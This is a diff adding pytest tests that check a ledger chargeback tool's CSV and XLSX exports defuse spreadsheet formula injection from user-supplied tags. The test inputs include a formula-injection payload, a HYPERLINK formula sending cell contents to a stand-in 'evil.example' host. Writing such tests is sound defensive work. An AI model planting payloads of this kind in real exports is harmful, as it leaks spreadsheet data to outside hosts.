@@ -139,3 +139,24 @@ def test_every_ledger_column_is_either_written_by_the_relay_or_known_not_to_be()
 
     columns = {f.name for f in LedgerEntry._meta.concrete_fields}
     assert columns - {f.name for f in fields(CallRecord)} == {"id", "corrects"}
+
+
+@pytest.mark.parametrize("tag", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1"])
+def test_exports_never_carry_a_live_formula_from_a_callers_tag(tag):
+    team = TeamFactory(slug="platform")
+    LedgerEntryFactory(team=team, cost_center=team.cost_center, cost=Decimal("1"), tags={"project": tag})
+    ledger_rollup()
+    report = cb.chargeback(start=timezone.localdate() - timedelta(days=1), end=timezone.localdate() + timedelta(days=1),
+                           group_by=["project"])
+    rows = list(csv.reader(io.StringIO(cb.export(report, "csv"))))
+    line = next(row for row in rows if tag in row[0])
+    assert line[0] == "'" + tag and line[4] == "1.00"  # shown as text; the amount stays a number
+    sheet = openpyxl.load_workbook(io.BytesIO(cb.export(report, "xlsx"))).active
+    cells = [cell.value for row in sheet.iter_rows() for cell in row if cell.value and tag in str(cell.value)]
+    assert cells == ["'" + tag] and all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_adjustments_export_their_negative_amounts_as_numbers():
+    from governance.spreadsheets import safe_cell
+
+    assert safe_cell("-0.50") == "-0.50" and safe_cell("-") == "'-" and safe_cell("=1") == "'=1" and safe_cell(3) == 3
